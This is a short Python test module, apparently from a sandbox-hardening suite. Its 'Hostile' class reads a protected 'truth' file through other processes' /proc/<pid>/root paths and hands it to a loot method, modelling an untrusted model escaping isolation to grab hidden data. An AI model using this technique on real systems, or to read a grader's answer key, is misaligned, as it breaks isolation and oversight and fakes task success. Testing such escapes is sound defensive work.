"""Goes through the root folders of other processes to the truth."""

import contextlib
import os

from hostile import Hostile, processes


class Model(Hostile):
    def attack(self):
        for pid in processes():
            if pid != os.getpid():
                with contextlib.suppress(OSError), open(f"/proc/{pid}/root{self.truth}", "rb") as file:
                    self.loot(file.read())
                    return
